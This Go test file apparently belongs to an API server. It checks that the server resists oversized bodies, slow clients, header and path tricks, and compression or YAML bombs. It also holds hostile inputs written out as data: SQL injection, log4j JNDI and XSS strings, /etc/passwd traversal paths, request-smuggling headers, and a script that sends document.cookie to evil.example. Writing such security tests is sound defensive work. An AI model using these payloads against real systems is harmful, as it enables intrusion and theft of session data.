package api_test

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/stele-dev/stele/api"
	"github.com/stele-dev/stele/memory"
)

func TestOversizedBodies(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	admin := w.acme.tokens[adminToken]
	huge := `{"content":"` + strings.Repeat("a", 1<<20) + `"}`
	for _, path := range []string{"/v1/projects/shop/memories", "/v1/projects/shop/recall", "/v1/tokens", "/mcp", "/mcp/p/shop"} {
		if got := w.send(admin, http.MethodPost, path, huge); got.status != 413 {
			t.Errorf("%s: %d %.200s", path, got.status, got.body)
		}
		chunked := func(r *http.Request) {
			r.Body = io.NopCloser(io.LimitReader(endless('a'), 64<<20)) // of no known length
			r.ContentLength = -1
		}
		if got := w.send(admin, http.MethodPost, path, "{}", chunked); got.status != 413 && got.status != 400 {
			t.Errorf("%s in chunks: %d %.200s", path, got.status, got.body)
		}
	}
	// A project, a token, a memory by the name of "model" is no model.
	for path, method := range map[string]string{"/mcp/p/model": http.MethodPost, "/v1/projects/shop/memories/model": http.MethodPatch} {
		if got := w.send(admin, method, path, huge); got.status != 413 {
			t.Errorf("%s: %d %.200s", path, got.status, got.body)
		}
	}
	if got := w.send(w.acme.tokens[agentToken], http.MethodPost, "/v1/projects/shop/model", `{"source":"`+strings.Repeat("a", 2<<20)+`"}`); got.status != 413 {
		t.Errorf("a model of 2 MiB from an agent: %d %.200s", got.status, got.body)
	}
	if got := w.send(admin, http.MethodPost, "/v1/projects/shop/model", `{"source":"`+strings.Repeat("a", 17<<20)+`"}`); got.status != 413 {
		t.Errorf("a model of 17 MiB: %d %.200s", got.status, got.body)
	}
}

// endless is one byte for ever.
type endless byte

func (e endless) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = byte(e)
	}
	return len(p), nil
}

// Who sends a byte now and then does not hold a connection.
func TestSlowClientsAreCutOff(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.server.Hurry(200 * time.Millisecond)
	l, err := (&net.ListenConfig{}).Listen(t.Context(), "tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(t.Context())
	served := make(chan error, 1)
	go func() { served <- w.server.Serve(ctx, l) }()
	defer func() {
		cancel()
		if err := <-served; err != nil {
			t.Error(err)
		}
	}()
	for name, begin := range map[string]string{
		"nothing": "", "half a head": "GET /v1/whoami HTTP/1.1\r\nHost: localhost\r\nX-A: ",
		"half a body": "POST /v1/projects/shop/memories HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nAuthorization: Bearer " +
			w.acme.tokens[adminToken] + "\r\nContent-Length: 1000\r\n\r\n{",
	} {
		conn, err := (&net.Dialer{}).DialContext(t.Context(), "tcp", l.Addr().String())
		if err != nil {
			t.Fatal(err)
		}
		if _, err := io.WriteString(conn, begin); err != nil {
			t.Fatal(err)
		}
		if err := conn.SetReadDeadline(time.Now().Add(30 * time.Second)); err != nil {
			t.Fatal(err)
		}
		answer, err := io.ReadAll(conn)
		if errors.Is(err, os.ErrDeadlineExceeded) {
			t.Errorf("%s: the connection is still open", name)
		}
		if strings.Contains(string(answer), " 200 ") || strings.Contains(string(answer), " 201 ") {
			t.Errorf("%s was answered with %.100s", name, answer)
		}
		_ = conn.Close()
	}
}

func TestHeaderTricks(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	auth := "Authorization: Bearer " + w.acme.tokens[adminToken] + "\r\n"
	for name, c := range map[string]struct{ request, want string }{
		"no host":              {"GET /v1/whoami HTTP/1.1\r\n" + auth + "\r\n", "400"},
		"http/1.0, no host":    {"GET /v1/whoami HTTP/1.0\r\n" + auth + "\r\n", "403"},
		"two hosts":            {"GET /v1/whoami HTTP/1.1\r\nHost: localhost\r\nHost: evil.example\r\n" + auth + "\r\n", "400"},
		"absolute form":        {"GET http://evil.example/v1/whoami HTTP/1.1\r\nHost: localhost\r\n" + auth + "\r\n", "403"},
		"rebound name":         {"GET /v1/whoami HTTP/1.1\r\nHost: evil.example\r\n" + auth + "\r\n", "403"},
		"rebound, health":      {"GET /healthz HTTP/1.1\r\nHost: evil.example\r\n\r\n", "403"},
		"rebound, agents":      {"POST /mcp HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 0\r\n" + auth + "\r\n", "403"},
		"another page":         {"POST /v1/projects HTTP/1.1\r\nHost: localhost\r\nOrigin: http://evil.example\r\nContent-Length: 0\r\n" + auth + "\r\n", "403"},
		"form of another page": {"POST /v1/projects HTTP/1.1\r\nHost: localhost\r\nContent-Type: text/plain\r\nSec-Fetch-Site: cross-site\r\nContent-Length: 2\r\n\r\n{}", "403"},
		"two lengths":          {"POST /v1/projects HTTP/1.1\r\nHost: localhost\r\nContent-Length: 2\r\nContent-Length: 3\r\n" + auth + "\r\n{}", "400"},
		"length and chunks":    {"POST /v1/projects HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\nTransfer-Encoding: chunked, identity\r\n" + auth + "\r\n0\r\n\r\n", "501"},
		"negative length":      {"POST /v1/projects HTTP/1.1\r\nHost: localhost\r\nContent-Length: -1\r\n" + auth + "\r\n", "400"},
		"space in a name":      {"GET /v1/whoami HTTP/1.1\r\nHost: localhost\r\nAuthorization : Bearer x\r\n\r\n", "400"},
		"folded":               {"GET /v1/whoami HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer\r\n " + w.acme.tokens[adminToken] + "\r\n\r\n", "200"},
		"another method":       {"GET /v1/projects HTTP/1.1\r\nHost: localhost\r\nX-HTTP-Method-Override: DELETE\r\n" + auth + "\r\n", "200"},
		"trace":                {"TRACE /v1/whoami HTTP/1.1\r\nHost: localhost\r\n" + auth + "\r\n", "405"},
		"connect":              {"CONNECT localhost:5432 HTTP/1.1\r\nHost: localhost:5432\r\n\r\n", "405"},
	} {
		if got := raw(t, w, c.request); !strings.Contains(got, " "+c.want) {
			t.Errorf("%s: %q, want %s", name, got, c.want)
		}
	}
	huge := w.send("", http.MethodGet, "/healthz", nil, func(r *http.Request) { r.Header.Set("X-Long", strings.Repeat("a", 16<<10)) })
	if huge.status != 200 {
		t.Errorf("a long header: %d", huge.status)
	}
}

func TestPathTricks(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	for _, path := range []string{
		"/v1/projects/..%2f..%2fetc%2fpasswd", "/v1/projects/%00", "/v1/projects/shop%00/memories", "/v1/projects/%ff%fe/memories", "/v1/projects//memories",
		"/v1//whoami", "/v1/./whoami", "/v1/projects/shop/../depot/memories", "/v1/projects/shop/memories/..%2f..%2f..", "/v1/projects/shop/memories/%2e%2e",
		"/v1/projects/shop%2fmemories", "/v1/projects/shop/memories/" + strings.Repeat("a", 20_000), "/v1/projects/%F0%9F%92%A3/recall", "/v1/whoami/", "/V1/WHOAMI",
		"/v1/projects/shop;x=1/memories", "/mcp/p/", "/mcp/p/..%2f..", "/mcp/p/shop/extra", "/mcp/../v1/whoami", "/docs/../metrics", "/%6d%65%74rics/",
		"/v1/projects/shop/memories?limit=-1", "/v1/projects/shop/memories?limit=99999999999999999999", "/v1/projects/shop/memories?cursor=%27%3B--", "/v1/projects/shop/memories?since=yesterday%00",
		"/v1/projects/shop/memories?kind=%ff", "/v1/projects/shop/why?path=..%2f..%2f..%2fetc%2fpasswd", "/v1/projects/shop/why?path=%5B%5B%5B%5B", "/v1/projects/shop/events?after=%00",
		"/v1/projects/shop/memories?a[]=1&a%5Bb%5D=2", "/v1/projects/shop/memories?%",
	} {
		for _, token := range []string{"", w.acme.tokens[adminToken]} {
			for _, method := range []string{http.MethodGet, http.MethodPost, http.MethodDelete, "PROPFIND"} {
				got := w.send(token, method, path, nil, asJSON, func(r *http.Request) { r.URL.Opaque = "" })
				if got.status >= 500 || token == "" && got.status < 300 || forbidden(got.body, "acme shop", "acme depot") != nil {
					t.Errorf("%s %s (token: %t): %d %.200s", method, path, token != "", got.status, got.body)
				}
			}
		}
	}
}

// hostile texts, for every field that takes one.
var hostile = []string{
	`'; DROP TABLE memories; --`, `" OR 1=1 --`, `$1`, `%s%n%x`, `{{.Token}}{{template "x"}}`, `${jndi:ldap://evil.example/a}`, `<script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`, `javascript:alert(1)`, "\x1b]0;owned\x07\x1b[2J", "a\x00b", "\u202egnp.exe", `../../../../etc/passwd`, `\\evil.example\share`,
	`[[` + strings.Repeat("[", 200) + `]]`, strings.Repeat("{a,", 200), `**/**/**/**/**/**`, "\ufffe\uffff", `-1`, `NaN`, `null`, `{"$gt":""}`, "\r\nSet-Cookie: a=b",
	strings.Repeat("é", 3000),
}

// Whatever is written into whichever field, the answer is one a client can act on, and the tables are still there.
func TestHostileTextInEveryField(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	admin := w.acme.tokens[adminToken]
	check := func(op operation, what string, got reply) {
		t.Helper()
		if got.status >= 500 {
			t.Errorf("%s with %s: %d %.300s", op.id, what, got.status, got.body)
		}
		if got.status >= 400 && got.header.Get("Content-Type") != "application/problem+json" {
			t.Errorf("%s with %s: %d as %s", op.id, what, got.status, got.header.Get("Content-Type"))
		}
		if got.header.Get("Set-Cookie") != "" {
			t.Errorf("%s with %s sets a cookie", op.id, what)
		}
	}
	asked := 0
	for _, op := range w.document() {
		r := matrix[op.id]
		for n, text := range hostile {
			parts := strings.SplitN(w.fill(w.acme, op.path+"\n"+r.query+"\n"+r.body), "\n", 3)
			for _, p := range op.parameters {
				if p.In != "query" || !strings.Contains(fmt.Sprint(p.Schema), "") {
					continue
				}
				values, err := url.ParseQuery(parts[1])
				if err != nil {
					t.Fatal(err)
				}
				values.Set(p.Name, text)
				asked++
				check(op, fmt.Sprintf("%s=hostile[%d]", p.Name, n), w.send(admin, op.method, parts[0]+"?"+values.Encode(), nonEmpty(parts[2]), asJSON))
			}
			if op.body == nil {
				continue
			}
			// All fields at once hide each other's errors, so each is sent by itself.
			for name := range op.body.Properties {
				var fields map[string]any
				if err := json.Unmarshal([]byte(parts[2]), &fields); err != nil {
					t.Fatal(err)
				}
				for _, value := range []any{text, []string{text}} {
					fields[name] = value
					asked++
					check(op, fmt.Sprintf("%s=hostile[%d]", name, n), w.send(admin, op.method, parts[0]+"?"+parts[1], fields, asJSON))
				}
			}
		}
	}
	if asked < 1000 {
		t.Errorf("only %d questions were asked", asked)
	}
	if got := w.send(admin, http.MethodGet, "/v1/projects/shop/memories/"+w.acme.memory.Handle, nil); got.status != 200 || !strings.Contains(got.body, canary("acme", "shop")) {
		t.Errorf("afterwards: %d %.300s", got.status, got.body)
	}
}

func nonEmpty(s string) any {
	if s == "" {
		return nil
	}
	return s
}

// A script in a memory is data: it comes back letter for letter, in a form that no browser runs.
func TestAScriptStaysAText(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	agent := w.acme.tokens[agentToken]
	const script = `<script>fetch("https://evil.example/"+document.cookie)</script>`
	got := w.send(agent, http.MethodPost, "/v1/projects/shop/memories", memory.RememberRequest{Content: script, Title: "<b>x</b>"})
	var out memory.RememberResponse
	if err := json.Unmarshal([]byte(got.body), &out); err != nil || out.Memory.Content != script {
		t.Fatalf("%d %s %v", got.status, got.body, err)
	}
	got = w.send(agent, http.MethodGet, "/v1/projects/shop/memories/"+out.Memory.Handle, nil, func(r *http.Request) { r.Header.Set("Accept", "text/html") })
	if kind := got.header.Get("Content-Type"); strings.Contains(kind, "html") || got.header.Get("X-Content-Type-Options") != "nosniff" || !strings.Contains(got.header.Get("Content-Security-Policy"), "default-src 'none'") {
		t.Errorf("served as %s with %v", kind, got.header)
	}
	// Control characters do not reach an agent's or a person's terminal through the text of a tool.
	w.send(agent, http.MethodPost, "/v1/projects/shop/memories", memory.RememberRequest{Content: "Bells \x1b[31mring\x07 loud."})
	text := w.rpc(agent, "/mcp/p/shop", "tools/call", map[string]any{"name": "recall", "arguments": map[string]any{"query": "bells ring"}})
	if !strings.Contains(text, "ring") || strings.Contains(text, `\u001b`) || strings.Contains(text, `\u0007`) {
		t.Errorf("%s", text)
	}
}

// Bodies that unfold: compressed, nested, repeated. None is unfolded.
func TestBombs(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	admin := w.acme.tokens[adminToken]
	var zipped bytes.Buffer
	z := gzip.NewWriter(&zipped)
	if _, err := io.Copy(z, io.LimitReader(endless('a'), 20<<20)); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	nested := strings.Repeat(`{"model":`, 100_000)
	elements := `{"model":{"elements":[` + strings.Repeat(`{"key":"a","name":"a","level":"system"},`, 100_000)
	for name, c := range map[string]struct {
		body   string
		change func(*http.Request)
	}{
		"gzip":        {zipped.String(), func(r *http.Request) { r.Header.Set("Content-Encoding", "gzip") }},
		"gzip, mute":  {zipped.String(), func(*http.Request) {}},
		"nested":      {nested, func(*http.Request) {}},
		"arrays":      {strings.Repeat("[", 500_000), func(*http.Request) {}},
		"duplicates":  {elements + `{"key":"a","name":"a","level":"system"}]}}`, func(*http.Request) {}},
		"a cycle":     {`{"model":{"elements":[{"key":"a","name":"a","level":"system","parent":"b"},{"key":"b","name":"b","level":"system","parent":"a"}]}}`, func(*http.Request) {}},
		"yaml":        {"a: &a [x,x,x]\nb: &b [*a,*a,*a]\nc: [*b,*b,*b]", func(r *http.Request) { r.Header.Set("Content-Type", "application/yaml") }},
		"globs":       {`{"model":{"elements":[{"key":"a","name":"a","level":"system"}]},"bindings":[{"element":"a","pattern":"` + strings.Repeat("{a,b}", 60) + `"}]}`, func(*http.Request) {}},
		"no object":   {`"text"`, func(*http.Request) {}},
		"two objects": {`{} {}`, func(*http.Request) {}},
		"not utf-8":   {"{\"source\":\"\xff\xfe\"}", func(*http.Request) {}},
	} {
		got := w.send(admin, http.MethodPost, "/v1/projects/shop/model", c.body, c.change)
		if got.status < 400 || got.status >= 500 {
			t.Errorf("%s: %d %.300s", name, got.status, got.body)
		}
	}
}

// More requests than the server works on at once are told to come back, and the ones that run are answered.
func TestTooManyAtOnce(t *testing.T) {
	t.Parallel()
	hold, held := make(chan struct{}), make(chan struct{}, 1)
	w := newWorld(t, func(o *api.Options) {
		o.InFlight = 1
		o.Service = slow{o.Service.(api.Domain), held, hold}
	})
	agent := w.acme.tokens[agentToken]
	first := make(chan reply, 1)
	go func() { first <- w.send(agent, http.MethodGet, "/v1/projects/shop/knowledge-map", nil) }()
	<-held
	if got := w.send(agent, http.MethodGet, "/v1/whoami", nil); got.status != 503 || got.header.Get("Retry-After") == "" {
		t.Errorf("a second request: %d %s", got.status, got.body)
	}
	if got := w.send("", http.MethodGet, "/healthz", nil); got.status != 200 {
		t.Errorf("a probe: %d", got.status)
	}
	close(hold)
	if got := <-first; got.status != 200 {
		t.Errorf("the first request: %d %s", got.status, got.body)
	}
}

// slow is a service that takes its time for the map.
type slow struct {
	api.Domain
	held, hold chan struct{}
}

func (s slow) Map(ctx context.Context, c memory.Caller) (memory.Map, error) {
	s.held <- struct{}{}
	<-s.hold
	return s.Domain.Map(ctx, c)
}

// Guessing tokens is limited where it arrives.
func TestGuessingTokens(t *testing.T) {
	t.Parallel()
	w := newWorld(t, func(o *api.Options) { o.Limits.Failures = 5 })
	seen := map[int]int{}
	for n := range 10 {
		guess := memory.TokenPrefix + strings.Repeat(string(rune('a'+n)), 71)
		seen[w.send(guess, http.MethodGet, "/v1/whoami", nil).status]++
	}
	if seen[401] != 5 || seen[429] != 5 {
		t.Errorf("statuses %v", seen)
	}
}
